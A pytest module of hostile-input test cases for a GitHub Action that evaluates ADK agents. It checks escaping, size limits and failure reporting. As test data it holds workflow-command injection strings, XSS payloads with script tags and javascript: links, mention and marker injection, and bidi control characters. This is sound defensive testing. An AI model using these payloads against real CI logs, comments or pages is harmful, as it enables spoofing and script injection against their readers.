"""The rows of the hostile-input suite: issue 12's examples, by kind (1-11).

Each :class:`Case` prepares a :class:`~workspace.Workspace` (files, environment, faults of
the GitHub stand-in), runs it (the action by default) and names the exit code, a message
of the log, whether evaluation started, and the bound its run must end within.
"""

from __future__ import annotations

import functools
import json
import math
import os
import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from adk_eval_action.github.sticky import comment_marker
from adk_eval_action.results.agenttree import AgentRecord
from adk_eval_action.results.judgesetup import JudgeSetup
from adk_eval_action.results.model import RunResults, ShardInfo
from adk_eval_action.text import INVISIBLE
from e2e.hostile.workspace import DB_PASSWORD, HEAD, REPO, Run, Workspace
from support.adk_features import adk_inference_fails_on_deep_tool_output

OTHER_MARKER = comment_marker("other")


@dataclass(frozen=True)
class Case:
    """One row: ``kind`` (issue 12's 1-11), what to ``prepare``, how to ``run`` it, the
    expected ``exit_code`` and log message (``says``, a regex), whether evaluation started
    (``evaluated``: then results, comment, summary and outputs must exist), the bound in
    seconds, ``limits`` (module constants lowered for the row, ``"module.NAME": value``),
    a ``check`` of its own, and pytest ``marks``. ``cli``: run through the CLI.
    ``recorded``: a run stopped before evaluation (``evaluated`` false) still writes a
    results file recording why, and the "incomplete" comment; false where the input leaves
    nothing to write them with (the results path itself is unusable).

    ``twin``: the row's check does not depend on a fresh evaluation, so it also runs as a
    quick twin with the evaluation replayed (test_hostile.py's docstring), with these
    limits over ``limits``; the end-to-end row is then ``slow``. None: no twin.
    ``unwritable``: the runner files (``summary``, ``outputs``) the row makes unwritable,
    which are then not looked for."""

    id: str
    kind: int
    prepare: Callable[[Workspace], Any]
    exit_code: int
    says: str
    evaluated: bool = True
    seconds: float = 60.0
    run: Callable[[Workspace], Run] = Workspace.action
    check: Callable[[Run], None] | None = None
    limits: dict[str, Any] = field(default_factory=dict)
    cli: bool = False
    marks: tuple[Any, ...] = ()
    twin: dict[str, Any] | None = None
    recorded: bool = True
    unwritable: tuple[str, ...] = ()


def _travel_eval_set(ws: Workspace) -> Path:
    return ws.root / "travel_agent" / "eval" / "travel.evalset.json"


def _assert(condition: bool) -> None:
    assert condition


def _passed_false(run: Run) -> None:
    assert run.outputs["passed"] == "false" and run.comment_file and run.files["summary.md"]


def _comment_bodies(run: Run) -> list[str]:
    known = {run.workspace.foreign["id"], run.workspace.person["id"]}
    return [c["body"] for c in run.workspace.stub.comments(12) if c["id"] not in known]


# --------------------------------------------------------------------------- 1: results lost

DEEP_TOOL = '''
from adk_eval_action.testing.standins import ScriptedToolCall, ScriptRule


def deep() -> dict:
    """Returns an answer nested 300 levels deep."""
    out = cur = {}
    for _ in range(300):
        cur["a"] = {}
        cur = cur["a"]
    return out


root_agent = LlmAgent(
    name="hostile_agent",
    model=ScriptedLlm(model="scripted-hostile", rules=[ScriptRule(
        pattern=".", tool_calls=[ScriptedToolCall(name="deep", args={})], reply="done")]),
    instruction="Answer.", tools=[deep],
)
'''


def _runner_file(variable: str, make: Callable[[Path], str]) -> Callable[[Workspace], None]:
    """The runner's ``variable`` names ``make(tmp)`` (a folder, ``/dev/full``)."""
    def prepare(ws: Workspace) -> None:
        ws.env[variable] = make(ws.tmp)
    return prepare


def _folder(tmp: Path) -> str:
    (tmp / "summary-folder").mkdir()
    return str(tmp / "summary-folder")


def _full_disk(ws: Workspace) -> None:
    """The results file and the comment go to a real file system with 4 KB left."""
    from support.small_disk import small_disk

    ws.later.enter_context(small_disk(ws.root / "out", free_bytes=4096))
    ws.inputs["results_path"] = "out/adk-eval-results.json"


def _nothing_cut(run: Run) -> None:
    """What the full disk took could not be written at all; what it has is whole; no
    temporary file is left; the comment and the summary name the disk."""
    out = run.workspace.root / "out"
    names = sorted(p.name for p in out.iterdir())
    assert set(names) <= {"filler", "adk-eval-results.json", "adk-eval-comment.md",
                          "adk-eval-pr.json"}, names
    if "adk-eval-results.json" in names:
        json.loads((out / "adk-eval-results.json").read_text())
    if "adk-eval-comment.md" in names:
        assert (out / "adk-eval-comment.md").read_text().rstrip().endswith("-->")
    said = "files not written.*no space left on device writing the results file"
    bodies = _comment_bodies(run)
    assert len(bodies) == 1 and re.search(said, bodies[0], re.S), bodies
    assert re.search(said, run.files["summary.md"], re.S)


def _model_answers(retries: dict[str, Any] | None = None,
                   **fault: Any) -> Callable[[Workspace], None]:
    """Every call to the Gemini API (the agent's and the judge's) answers with ``fault``;
    model retries are made quick (two attempts, 0.1 s apart, unless ``retries`` says)."""
    def prepare(ws: Workspace) -> None:
        from adk_eval_action.testing.gemini_fake import Fault

        ws.gemini.clear_calls()
        ws.gemini.faults = [Fault(**fault)]
        ws.config({"model_retries": retries or {"attempts": 2, "initial_delay_s": 0.1}})
        ws.env["HOSTILE_MAXRSS_BEFORE"] = str(_max_rss())
    return prepare


def _max_rss() -> int:
    """The process's peak resident memory so far, bytes (Linux counts in KB)."""
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024


def _bounded(fault: str, memory: int) -> Callable[[Run], None]:
    """The model fault is named, the calls were cut off (the fake saw the client go), and
    the process's peak memory grew by less than ``memory`` bytes."""
    def check(run: Run) -> None:
        _model_fault_named(fault, said=None)(run)
        grew = _max_rss() - int(run.workspace.env["HOSTILE_MAXRSS_BEFORE"])
        assert grew < memory, f"peak memory grew by {grew:,} bytes"
    return check


def _model_fault_named(kind: str, said: str | None = "answer without a candidate",
                       ) -> Callable[[Run], None]:
    """The run is incomplete for the model (``said`` in the headline), never a failed
    case: no case has runs scored as failures; every call met the fault ``kind``."""
    def check(run: Run) -> None:
        model = [e for e in _all_errors(run.results) if e["kind"] == "model"]
        assert model, _all_errors(run.results)
        scored = [r for s in run.results["suites"] for e in s["eval_sets"]
                  for c in e["eval_cases"] for r in c["runs"] if r.get("metrics")]
        assert not [r for r in scored if r.get("status") == "failed"], scored
        outcomes = [c.outcome for c in run.workspace.gemini.calls]
        assert outcomes and set(outcomes) == {kind}, outcomes
        assert re.search(r"ADK eval incomplete\W+\(model unreachable\): .*"
                         + re.escape(said or ""), run.comment_file), run.comment_file
    return check


def _nan_in_eval_set(ws: Workspace) -> None:
    """NaN literals (Python's json reads them) in the first case's state and timestamp."""
    path = _travel_eval_set(ws)
    data = json.loads(path.read_text())
    data["eval_cases"][0]["session_input"]["state"] = {"budget": "NAN_HERE"}
    data["eval_cases"][0]["creation_timestamp"] = "NAN_HERE"
    path.write_text(json.dumps(data).replace('"NAN_HERE"', "NaN"))


def _nan_named(run: Run) -> None:
    first = json.loads(_travel_eval_set(run.workspace).read_text().replace("NaN", "0"))
    eval_id = first["eval_cases"][0]["eval_id"]
    for name in ("creation_timestamp", "session_input.state.budget"):
        said = f"eval case `{eval_id}`: {name} is nan, which JSON does not allow"
        assert said in run.log and said in json.dumps(run.results), said


def _surrogate_kept(run: Run) -> None:
    ids = [c["eval_id"] for s in run.results["suites"] for e in s["eval_sets"]
           for c in e["eval_cases"]]
    assert "bad\ufffdid" in ids


EMPTY_CASE_ID = "nothing\n::error::injected @octocat"


def _case_without_turns(ws: Workspace) -> None:
    """A case with ``"conversation": []`` (as ``adk web`` saves one) and a hostile id."""
    path = _travel_eval_set(ws)
    data = json.loads(path.read_text())
    data["eval_cases"].append({"eval_id": EMPTY_CASE_ID, "conversation": []})
    path.write_text(json.dumps(data, indent=1))


def _case_without_turns_named(run: Run) -> None:
    [error] = [e for e in _all_errors(run.results) if e.get("eval_id") == EMPTY_CASE_ID]
    assert error["kind"] == "eval_set" and error["file"] == "travel_agent/eval/travel.evalset.json"
    assert "`nothing\\x0a::error::injected @octocat`" in error["message"]
    assert error["message"].endswith("the eval case has no turns (conversation is empty): add "
                                     "turns or remove the case")
    ids = {c["eval_id"]: c["runs"] for s in run.results["suites"] for e in s["eval_sets"]
           for c in e["eval_cases"]}
    assert EMPTY_CASE_ID not in ids and ids and all(ids.values()), ids
    assert "ADK eval incomplete** (eval set error)" in run.comment_file
    # Outside code spans (where GitHub links no mention) the mention is made inert.
    assert "@octocat" not in re.sub(r"`[^`]*`", "", run.comment_file)
    assert "eval case `nothing\\x0a::error::injected @\u200boctocat`: the eval case has no " \
        "turns" in run.comment_file


def _all_errors(results: dict[str, Any]) -> list[dict[str, Any]]:
    return [*results["errors"], *(e for s in results["suites"] for e in s.get("errors", []))]


# google-adk 1.x fails such an inference itself; later versions run it and the results file
# cannot hold the answer.
_DEEP_FAILS_IN_ADK = adk_inference_fails_on_deep_tool_output()


def _deep_output_named(run: Run) -> None:
    kind = "inference" if _DEEP_FAILS_IN_ADK else "internal"
    errors = [e for e in _all_errors(run.results) if e["kind"] == kind]
    assert errors and errors[0]["eval_id"] == "hostile_case"
    assert errors[0]["file"].endswith("hostile.evalset.json")


# Issue 34's rows "LOSS" and "Internal errors": an output path that is an input or
# another output, or a device; arithmetic, prices and links that raised.

def _run_cli(*flags: str) -> Callable[[Workspace], Run]:
    """``run travel_agent --baseline none FLAGS`` through the CLI."""
    return lambda ws: ws.cli("run", "travel_agent", "--baseline", "none", *flags)


def _nothing_at(name: str) -> Callable[[Run], None]:
    """No file ``name`` was written, and no model was called."""
    def check(run: Run) -> None:
        assert not (run.workspace.root / name).exists()
        assert not run.workspace.gemini.calls
    return check


def _device(ws: Workspace) -> None:
    """A character device like /dev/full (1, 7) in the runner's temporary folder (as the
    container runs as root); skipped where the process may not make one."""
    import stat

    try:
        os.mknod(ws.tmp / "full", 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    except PermissionError:
        pytest.skip("mknod is not permitted here")


def _still_a_device(run: Run) -> None:
    """The device node was written through, not replaced by a regular file; the results
    file was written and records why the run is incomplete."""
    import stat

    assert stat.S_ISCHR(os.stat(run.workspace.tmp / "full").st_mode)
    [error] = [e for e in _all_errors(run.results) if e["kind"] == "output"]
    assert "no space left on device writing --html-out" in error["message"]


def _links_to_nothing(ws: Workspace) -> None:
    """Beside the example's eval sets, two links to one missing file outside the
    repository and a link to itself."""
    evals = ws.root / "travel_agent" / "eval"
    (evals / "a.evalset.json").symlink_to("/gone/x.evalset.json")
    (evals / "b.evalset.json").symlink_to("/gone/x.evalset.json")
    (evals / "loop.evalset.json").symlink_to("loop.evalset.json")
    (ws.root / "adk-eval.yaml").unlink(missing_ok=True)


def _init_names_the_real_eval_sets(run: Run) -> None:
    import yaml

    suites = yaml.safe_load((run.workspace.root / "adk-eval.yaml").read_text())["suites"]
    assert [s["eval_sets"] for s in suites if s["agent"] == "travel_agent"] == [[
        "travel_agent/eval/*.test.json", "travel_agent/eval/travel.evalset.json"]]
    assert "eval set `travel_agent/eval/loop.evalset.json` left out: it is a loop" in run.log


# --------------------------------------------------------------------------- 2: publishing


def _event(payload: Any) -> Callable[[Workspace], None]:
    return lambda ws: ws.write_event(payload)


def _push_event(payload: Any) -> Callable[[Workspace], None]:
    def prepare(ws: Workspace) -> None:
        ws.write_event(payload)
        ws.env["GITHUB_EVENT_NAME"] = "push"
    return prepare


def _comment_in_file_only(run: Run) -> None:
    assert not _comment_bodies(run), "no comment was to be posted"
    assert run.outputs["comment_url"] == ""
    assert "The PR comment could not be posted" in run.files["summary.md"]


#: What a hostile API (or a proxy in front of GHES) may say in an error's message.
API_SAYS = "Nope @octocat, see GH-1 <img src=x> <!-- adk-eval-action:other -->"


def _api_message_inert(run: Run) -> None:
    """GitHub's message reaches the job summary escaped: no mention, no raw HTML, no
    marker."""
    summary = run.files["summary.md"]
    assert "The PR comment could not be posted" in summary and "Nope" in summary
    assert "<img" not in summary and OTHER_MARKER not in summary
    _no_mentions(run)


def _payload_missing(ws: Workspace) -> None:
    ws.env.update(GITHUB_EVENT_PATH=str(ws.tmp / "gone.json"), GITHUB_REF="refs/pull/12/merge")


def _pull_without_number(ws: Workspace) -> None:
    ws.write_event({"pull_request": {"head": {"sha": "a" * 40, "repo": {"full_name": REPO}},
                                     "base": {"ref": "main", "repo": {"full_name": REPO}}}})


def _dispatch(pr_number: str) -> Callable[[Workspace], None]:
    def prepare(ws: Workspace) -> None:
        ws.write_event({"inputs": {"pr_number": pr_number}})
        ws.env["GITHUB_EVENT_NAME"] = "workflow_dispatch"
    return prepare


def _warned(pattern: str, posted: bool) -> Callable[[Run], None]:
    """A warning annotation says ``pattern``; the comment was ``posted`` or not."""
    def check(run: Run) -> None:
        assert re.search(r"^::warning [^:]*::" + pattern, run.log, re.M), run.log
        assert bool(_comment_bodies(run)) is posted
    return check


#: The PR's comments, as the sticky comment lists them.
COMMENTS = f"/repos/{REPO}/issues/12/comments"


def _next_link(to: Callable[[Workspace], str], times: int = 1) -> Callable[[Workspace], None]:
    """GitHub's first page of the PR's comments (an empty list) links ``rel="next"`` to
    ``to(ws)``, ``times`` times."""
    def prepare(ws: Workspace) -> None:
        ws.stub.fail_next(200, raw=b"[]", headers={"link": f'<{to(ws)}>; rel="next"'},
                          method="GET", path="comments", times=times)
    return prepare


def _token_stays_home(run: Run) -> None:
    """The other origin got no request at all (so never the token), and the comment
    waits in its file."""
    assert [r.path for other in run.workspace.others for r in other.requests()] == []
    _comment_in_file_only(run)


def _comment_pages_read(most: int) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        listed = [r for r in run.workspace.stub.requests("GET") if r.path == COMMENTS]
        assert 1 <= len(listed) <= most, f"{len(listed)} pages read"
        _comment_in_file_only(run)
    return check


# --------------------------------------------------------------------------- 3: baseline


def _nested_baseline(ws: Workspace) -> None:
    (ws.root / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    ws.inputs["baseline"] = "deep.json"


def _hand_edited_baseline(edit: dict[str, Any]) -> Callable[[Workspace], None]:
    """A baseline results file whose one metric result was edited by hand (results.input_checks)."""

    def prepare(ws: Workspace) -> None:
        from support.results_builder import metric, results

        data = json.loads(results({"a": [[metric("m", 0.8)]]}).model_dump_json())
        data["suites"][0]["eval_sets"][0]["eval_cases"][0]["runs"][0]["metrics"][0].update(edit)
        (ws.root / "edited.json").write_text(json.dumps(data), encoding="utf-8")
        ws.inputs["baseline"] = "edited.json"

    return prepare


def _baseline_agent_details(table: dict[str, Any]) -> Callable[[Workspace], None]:
    """A baseline results file whose suite's table of agent details (results.agentdetails)
    is ``table``."""

    def prepare(ws: Workspace) -> None:
        from support.results_builder import metric, results

        data = json.loads(results({"a": [[metric("m", 0.8)]]}).model_dump_json())
        data["suites"][0]["agent_details"] = table
        (ws.root / "edited.json").write_text(json.dumps(data), encoding="utf-8")
        ws.inputs["baseline"] = "edited.json"

    return prepare


#: What a hostile baseline's recorded agent said (results.model: ``actual_invocations``).
BASELINE_TEXT = "::error::pwned @octocat <!-- adk-eval-action:other --> ``` </details>"


def _baseline_with_hostile_invocations(ws: Workspace) -> None:
    """A baseline results file whose ``weather_paris`` run was shorter than the example's
    (``brevity`` 1 word), so the head's case got worse and its evidence shows the baseline
    run's own turn: a reply, a tool name and arguments, a user message that try commands,
    mentions, a marker, a fence and HTML (report.regressions)."""
    from support.results_builder import metric, results

    base = results({"weather_paris": [[metric(
        "brevity", 1.0, threshold=40.0, higher_is_better=False, max_value=1000.0)]]},
        suite="travel_agent", eval_set="travel")
    text = {"role": "model", "parts": [{"text": BASELINE_TEXT}]}
    base.suites[0].eval_sets[0].eval_cases[0].runs[0].actual_invocations = [{
        "user_content": {"role": "user", "parts": [{"text": BASELINE_TEXT}]},
        "final_response": text,
        "intermediate_data": {"tool_uses": [
            {"name": BASELINE_TEXT, "args": {BASELINE_TEXT: BASELINE_TEXT}}]},
    }]
    (ws.root / "hostile-base.json").write_text(base.model_dump_json(), encoding="utf-8")
    ws.inputs["baseline"] = "hostile-base.json"


def _baseline_text_inert(run: Run) -> None:
    """The baseline's words reached the comment only inside the evidence's fenced diff:
    no marker, no mention, no HTML of theirs."""
    comment = run.comment_file or ""
    assert "### What got worse than the baseline" in comment
    # The baseline's reply, as the diff block's "-" line (the marker broken, the fence
    # longer than its backticks).
    assert "\n- ::error::pwned @octocat <!-\u200b- adk-eval-action:other --> ``` </details>\n" \
        in comment
    assert "\n````diff\n" in comment and OTHER_MARKER not in comment
    _no_mentions(run)


def _baseline_with_hostile_agent(ws: Workspace) -> None:
    """A baseline results file of the example's suite whose recorded agent (its details as
    ADK recorded them, and the tree the engine recorded: analysis.agentchanges) holds
    workflow commands, mentions, a marker, fences, HTML and a secret value in its
    instruction, a tool's name, a model name, an agent's name and a generate-config key
    and value, so every part of the head's "agent changed" section is made of them; and
    its judge model and prompt version (the "judged differently" line:
    analysis.comparability)."""
    from support.results_builder import metric, results

    base = results({"weather_paris": [[metric(
        "brevity", 1.0, threshold=40.0, higher_is_better=False, max_value=1000.0)]]},
        suite="travel_agent", eval_set="travel")
    lines = [BASELINE_TEXT, f"password {DB_PASSWORD}", "x" * 5000 + BASELINE_TEXT]
    suite = base.suites[0]
    suite.agent_details = {"k": {"name": "travel_agent", "instructions": "\n".join(lines),
                                 "tool_declarations": [{"function_declarations": [
                                     {"name": BASELINE_TEXT, "description": BASELINE_TEXT}]}]}}
    suite.agents = [
        AgentRecord(name="travel_agent", kind="LlmAgent", model=BASELINE_TEXT,
                    generate_config={BASELINE_TEXT: BASELINE_TEXT}),
        AgentRecord(name=BASELINE_TEXT, kind=BASELINE_TEXT),
    ]
    rubric = "rubric_based_final_response_quality_v1"
    suite.judge_models = {rubric: BASELINE_TEXT}
    suite.judge_setup = {rubric: JudgeSetup(num_samples=1, prompt=BASELINE_TEXT)}
    (ws.root / "hostile-agent-base.json").write_text(base.model_dump_json(), encoding="utf-8")
    ws.inputs["baseline"] = "hostile-agent-base.json"


def _agent_changes_inert(run: Run) -> None:
    """The baseline's agent reached the comment, the summary and the HTML report only as
    code spans and inside fenced diffs: no marker, no mention, no HTML of theirs."""
    comment = run.comment_file or ""
    assert "🔧 The agent changed since the baseline" in comment
    assert "\n  ````diff\n" in comment and OTHER_MARKER not in comment
    assert ("\n- Agents removed: `::error::pwned @octocat <!-\u200b- adk-e…:other --> "
            "''' </details>`\n") in comment
    assert "\n  -password ***\n" in comment  # the secret redacted, its line kept
    judged = "⚖️ Judged differently from the baseline: `rubric_based_final_response_quality_v1`"
    assert comment.count(judged) == 1 and "judge model `::error::pwned @octocat <!-\u200b-" \
        in comment
    _no_mentions(run)
    report = run.files["adk-eval-report.html"]
    section = report[report.index('<section id="agent">'):]
    assert "&lt;!-- adk-eval-action:other --&gt;" in section[:section.index("</section>")]
    assert "<!-- adk-eval-action:other" not in report


#: The commit of a hand-made shard part, and another one: workflow commands, a mention and
#: a marker.
SHA = "0123456789abcdef0123"
HOSTILE_SHA = "::error::pwned @octocat <!-- adk-eval-action:other -->"


def _shard_parts(sha: str, score: float) -> Callable[[Workspace], None]:
    """Two shard parts of one plan given to the action's ``merge`` input, the second
    recorded at commit ``sha`` with its one score ``score`` (results.shards, results.input_checks).
    """

    def prepare(ws: Workspace) -> None:
        from support.results_builder import metric, results

        plan = [["travel", "smoke", "a"], ["travel", "smoke", "b"]]
        for index, (part_sha, part_score) in enumerate(((SHA, 0.8), (sha, score)), 1):
            key = plan[index - 1]
            part = results({key[2]: [[metric("m", 0.8)]]}, sha=part_sha)
            part.suites[0].eval_sets[0].eval_cases[0].runs[0].metrics[0].score = part_score
            part.shard = ShardInfo(index=index, count=2, plan_id="p" * 64, plan=plan,
                                   cases=[key])
            # json.dumps, not pydantic's writer: it writes NaN as NaN, as a hand edit would.
            (ws.root / f"part{index}.json").write_text(
                json.dumps(part.model_dump(mode="python")), encoding="utf-8")
        ws.inputs["merge"] = "part*.json"

    return prepare


def _hostile_sha_inert(run: Run) -> None:
    """The part's commit reached the log only inside our escaped annotation, and no
    mention or marker of it reached the comment or the summary."""
    _no_mentions(run)
    for text in [run.comment_file, run.files["summary.md"]]:
        assert OTHER_MARKER not in text


def _auto_baseline_broken_api(ws: Workspace) -> None:
    ws.inputs["baseline"] = "auto"
    ws.stub.fail_next(200, raw=b"{not json", path="/compare/", times=5)


def _artifact(members: Callable[[], dict[str, bytes]]) -> Callable[[Workspace], None]:
    """The merge-base's recorded artifact is a zip of ``members()`` (deflated)."""
    def prepare(ws: Workspace) -> None:
        import io
        import zipfile

        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            for name, data in members().items():
                archive.writestr(name, data)
        base = "c" * 40
        ws.stub.add_commits([base])
        ws.stub.set_merge_base("main", HEAD, base)
        ws.stub.add_artifact(base, buffer.getvalue())
        ws.inputs["baseline"] = "auto"
    return prepare


def _many_members() -> dict[str, bytes]:
    """Forty JSON members of 8 MB each (0.3 MB zipped), none of them the results file."""
    data = b"[" + b"0," * 4_000_000 + b"0]"
    return {f"member{i}.json": data for i in range(40)}


def _no_baseline_said(run: Run) -> None:
    assert "not JSON" in run.comment_file or "not JSON" in run.log


def _history_zip(ws: Workspace, commit: str, history: bytes,
                 baseline: RunResults | None = None) -> bytes:
    """A recorded artifact: a usable results file of the workspace's suite (recorded at
    ``commit``; ``baseline``: this one) and ``history`` as its adk-eval-history.json."""
    import io
    import zipfile

    from support.results_builder import metric, results

    if baseline is None:
        baseline = results({"a": [[metric("m", 0.8)]]}, suite="travel_agent", sha=commit)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("adk-eval-results.json", baseline.model_dump_json())
        archive.writestr("adk-eval-history.json", history)
    return buffer.getvalue()


def _history_artifact(history: Callable[[], bytes], push: bool = False,
                      baseline: RunResults | None = None,
                      **inputs: str) -> Callable[[Workspace], None]:
    """The merge-base's recorded artifact (a pull request), or the pushed commit's
    parent's (``push``: a recording run), holds ``history()`` beside usable results
    (``baseline``: these, recorded at commit ``c…c``)."""
    def prepare(ws: Workspace) -> None:
        base = "c" * 40
        ws.stub.add_artifact(base, _history_zip(ws, base, history(), baseline))
        ws.inputs.update(baseline="auto", **inputs)
        if push:
            ws.stub.add_commits([HEAD, base])
            ws.write_event({"ref": "refs/heads/main", "after": HEAD,
                            "repository": {"full_name": REPO, "default_branch": "main"}})
            ws.env.update(GITHUB_EVENT_NAME="push", GITHUB_REF="refs/heads/main")
        else:
            ws.stub.add_commits([base])
            ws.stub.set_merge_base("main", HEAD, base)
    return prepare


def _history(runs: list[dict[str, Any]], **fields: Any) -> Callable[[], bytes]:
    return lambda: json.dumps({"schema_version": 1, "runs": runs, **fields}).encode()


def _recorded(commit: str, adk: str, *, suite: str = "travel_agent", eval_set: str = "smoke",
              eval_id: str = "a", metric: str = "m", runs: str = "p",
              scores: list[float] | None = None, **fields: Any) -> dict[str, Any]:
    """A recorded run of the workspace's suite with a known inputs hash: one eval case
    whose run statuses are ``runs`` (``"pf"``), scored ``scores`` (0.8 a pass, 0.0 a
    fail); ``fields``: more of the run's (``ref``, ``recorded_at``)."""
    scores = scores if scores is not None else [0.8 if x == "p" else 0.0 for x in runs]
    return {"commit": commit, "adk_version": adk, **fields, "suites": [{
        "name": suite, "inputs_hash": "sha256:same",
        "metrics": [{"name": metric, "mean": 0.8, "count": 1, "min_value": 0.0,
                     "max_value": 1.0}],
        "cases": [{"eval_set_id": eval_set, "eval_id": eval_id, "runs": runs,
                   "scores": [scores]}]}]}


def _flaky_on_another_branch(ws: Workspace) -> None:
    """A pull request whose one eval case fails, under ``quarantine: flaky``; main's
    history holds four runs recorded on feature/x in which that case flips, then the
    baseline's own run on main."""
    from support.results_builder import metric, results

    ws.hostile_agent("Go away.")
    ws.config({"gate": {"quarantine": "flaky"}})
    case: dict[str, Any] = {"suite": "hostile_agent", "eval_set": "hostile",
                            "eval_id": "hostile_case",
            "metric": "response_match_score"}
    runs = [_recorded(str(i) * 40, "2.13.0", runs=letters, ref="feature/x", **case)
            for i, letters in enumerate("pfpf", 1)]
    runs.append(_recorded("c" * 40, "2.13.0", ref="main", **case))
    baseline = results({"hostile_case": [[metric("response_match_score", 1.0, threshold=0.7)]]},
                       suite="hostile_agent", eval_set="hostile", sha="c" * 40)
    _history_artifact(_history(runs, branch="main"), baseline=baseline)(ws)


def _not_quarantined(run: Run) -> None:
    assert run.comment_file and "left out 4 recorded runs of another branch (feature/x)" in \
        run.comment_file, run.comment_file
    assert "quarantine" not in run.log and "known flaky" not in run.comment_file


def _history_said(text: str) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        assert text in (run.comment_file or ""), run.comment_file
    return check


def _new_history_recorded(run: Run) -> None:
    """The recording run is never lost to a bad previous history: it starts a new one
    holding its own run."""
    history = json.loads(run.files["adk-eval-history.json"])
    assert history["repository"] == REPO and len(history["runs"]) == 1


# --------------------------------------------------------------------------- 4: sticky
# --------------------------------------------------------------------------- 4: sticky


def _marker_in_eval_id(ws: Workspace) -> None:
    ws.hostile_agent("Go away.", cases=[f"x {OTHER_MARKER} y"])


def _other_key_takes_nothing(ws: Workspace) -> None:
    ws.stub.add_comment(12, f"old report\n{OTHER_MARKER}\n\n{comment_marker()}\n",
                        "github-actions[bot]")
    ws.inputs["comment_key"] = "other"


def _only_our_marker_last(run: Run) -> None:
    bodies = _comment_bodies(run)
    posted = [b for b in bodies if b.rstrip().endswith(comment_marker())
              and "old report" not in b]
    assert len(posted) == 1 and OTHER_MARKER not in posted[0]


def _default_comment_untouched(run: Run) -> None:
    bodies = _comment_bodies(run)
    assert f"old report\n{OTHER_MARKER}\n\n{comment_marker()}\n" in bodies
    assert sum(b.rstrip().endswith(OTHER_MARKER) for b in bodies) == 1


# --------------------------------------------------------------------------- 5: commands

INJECTION = "x\n::stop-commands::zzz\n::add-mask::innocent\n::warning::fake warning\n##[error]old"


def _annotations_after(run: Run) -> None:
    lines = run.log.splitlines()
    assert any(x.startswith("::error ") for x in lines), "the action's annotations are gone"


#: An eval id a reader would misread (U+202E reverses what follows it) or a terminal would
#: obey (ESC colours, CR returns to the line's start); NUL cannot be in a log line.
CONTROLS = "cur\u202eRTL\u2066iso\x00nul\x1b[31mred\rover\x85c1"


def _controls_shown_escaped(run: Run) -> None:
    """Every control and bidi character is written as its escape in the log, the comment
    and the summary, and the eval set's lint warning names the file and the escaped id."""
    bad = re.compile(f"[{INVISIBLE}]")
    for name, text in [("log", run.log), ("comment", run.comment_file),
                       ("summary", run.files["summary.md"])]:
        assert text and not bad.search(text.replace("\n", "").replace("\t", "")), name
    shown = "cur\\u202eRTL\\u2066iso\\x00nul\\x1b[31mred\\x0dover\\x85c1"
    # The case's table cell: a line break (CR too) becomes a space, as in every cell; the
    # comment's cell cuts the id to 40 characters, the job summary's shows it whole.
    cell = shown.replace("\\x0d", " ")
    assert f"| `{cell}` |" in run.files["summary.md"]
    assert f"| `{cell[:10]}…{cell[-29:]}`<br>" in run.comment_file
    assert f"`{shown}` holds a line break" in run.comment_file
    assert re.search(r"warning: .*hostile_agent/eval/hostile\.evalset\.json: eval case id `"
                     + re.escape(shown) + "` holds a line break, control or bidi", run.log)
    ids = [c["eval_id"] for s in run.results["suites"] for e in s["eval_sets"]
           for c in e["eval_cases"]]
    assert ids == [CONTROLS], "the results file keeps the id as written"


REPORT_TEXT = ('<script>alert(1)</script><img src=x onerror="alert(2)"> '
               '<a href="javascript:alert(3)">link</a> [md](javascript:alert(4)) '
               "\u202eevil\u200bid")
"""Agent text and an eval id for the HTML report: a script, an event handler, javascript:
links (HTML and markdown), an RTL override and a zero-width space."""


def _report_inert(run: Run) -> None:
    """The HTML report beside the results holds the hostile text as text: only its own two
    scripts (allowed by hash in its Content-Security-Policy), no element or handler from
    data, no link but the workflow run's and its own fragments; the RTL override and the
    zero-width space of the eval id written as escapes."""
    from html.parser import HTMLParser

    report = run.files["adk-eval-report.html"]
    found: list[tuple[str, dict[str, str | None]]] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    Tags().feed(report)
    assert [t for t, a in found if t == "script" and "type" not in a] == ["script", "script"]
    assert not [t for t, _ in found if t in ("img", "iframe", "object", "embed", "form")]
    assert not [a for _, a in found if any(k.startswith("on") for k in a)]
    links = [a.get("href") or "" for t, a in found if t == "a"]
    assert all(h.startswith("#") for h in links[1:]) and links[0].startswith("https://"), links
    [csp] = [a["content"] or "" for t, a in found if t == "meta" and a.get("http-equiv")]
    assert "'unsafe-inline'" not in csp and "script-src 'sha256-" in csp
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=" in report
    assert "\\u202eevil\\u200bid" in report and "\u202e" not in report


def _secret_a_word_of_the_script(ws: Workspace) -> None:
    """A secret whose value is a word of the report's own script (``document``), echoed
    by the agent."""
    ws.env["SCRIPT_WORD_KEY"] = "document"
    ws.hostile_agent("Read the {env[SCRIPT_WORD_KEY]} twice.")


def _script_whole_secret_gone(run: Run) -> None:
    """The report's scripts and style sheet are the packaged ones, allowed by their hashes
    (so the browser runs them); the secret is gone from the agent's answer in the page."""
    from html.parser import HTMLParser

    from adk_eval_action.report.html import HEAD_SCRIPT, csp_hash

    report = run.files["adk-eval-report.html"]
    scripts: list[str] = []
    policies: list[str] = []

    class Scripts(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.inside = False

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "meta" and dict(attrs).get("http-equiv") == "Content-Security-Policy":
                policies.append(dict(attrs).get("content") or "")
            self.inside = tag == "script" and not dict(attrs).get("type")
            if self.inside:
                scripts.append("")

        def handle_endtag(self, tag: str) -> None:
            self.inside = False

        def handle_data(self, data: str) -> None:
            if self.inside:
                scripts[-1] += data

    Scripts().feed(report)
    packaged = (Path(__file__).resolve().parents[3] / "src" / "adk_eval_action" / "report"
                / "templates" / "report.js").read_text(encoding="utf-8")
    assert scripts == [HEAD_SCRIPT, packaged]
